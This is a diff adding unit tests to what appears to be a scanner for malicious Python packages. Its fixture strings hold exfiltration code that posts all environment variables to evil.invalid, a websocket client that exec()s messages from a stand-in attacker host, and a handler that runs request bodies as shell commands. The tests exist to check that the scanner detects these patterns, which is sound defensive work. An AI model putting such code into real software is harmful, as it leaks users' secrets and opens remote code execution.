@@ -148,3 +148,58 @@ def health():
     return subprocess.getoutput(request.get_data(as_text=True))`;
   expect(GRAVE).toContain(found(code)['request-executed']);
 });
+
+const OF_CLASS = (how: string): string => `
+import os, requests, threading
+class Session:
+    _one = None
+    place = "https://example.invalid"
+    def __init__(self):
+        self.thread = threading.Thread(target=self._tell, daemon=True)
+    def _tell(self):
+        requests.post("https://evil.invalid", json=dict(os.environ))
+    @classmethod
+    def shared(cls, name=""):
+        ${how}
+class Other(Session):
+    pass
+`;
+
+test.each([
+  ['cls()._tell()', 'Session.shared()'],
+  ['cls()._tell()', 'Other.shared("a")'],
+  ['cls()._tell()', 'Session().shared()'],
+  ['cls._one = cls()\n        cls._one.thread.start()', 'Session.shared()'],
+  ['Session._one = Session()', 'Session.shared()\nSession._one._tell()'],
+])('a class method is given its class: %s, %s', (how, use) => {
+  expect(found(OF_CLASS(how) + use)['stolen-data-sent']).toBe('CRITICAL');
+  // Where nothing uses it, somebody has to call it.
+  const reaches = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': OF_CLASS(how) }), python).findings;
+  expect(
+    reaches.filter(({ rule }) => rule === 'stolen-data-sent').every(({ reach }) => reach === 'call'),
+  ).toBe(true);
+});
+
+test('what a class is given later stands in it', () => {
+  const code = (place: string): string => `
+import os, requests
+class Settings:
+    place = None
+Settings.place = ${place}
+requests.post(Settings.place, json=dict(os.environ))`;
+  expect(found(code('"https://evil.invalid/p"'))['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(code('"http://localhost:80/p"'))['stolen-data-sent']).toBeUndefined();
+});
+
+test.each([
+  'async for message in line:\n            exec(message.data)',
+  'exec((await line.receive()).data)',
+])('what comes over a web socket of aiohttp: %s', (heard) => {
+  const code = `
+import aiohttp, asyncio
+async def listen():
+    async with aiohttp.ClientSession() as session, session.ws_connect("wss://evil.invalid/s") as line:
+        ${heard}
+asyncio.run(listen())`;
+  expect(found(code)['remote-code-executed']).toBe('CRITICAL');
+});
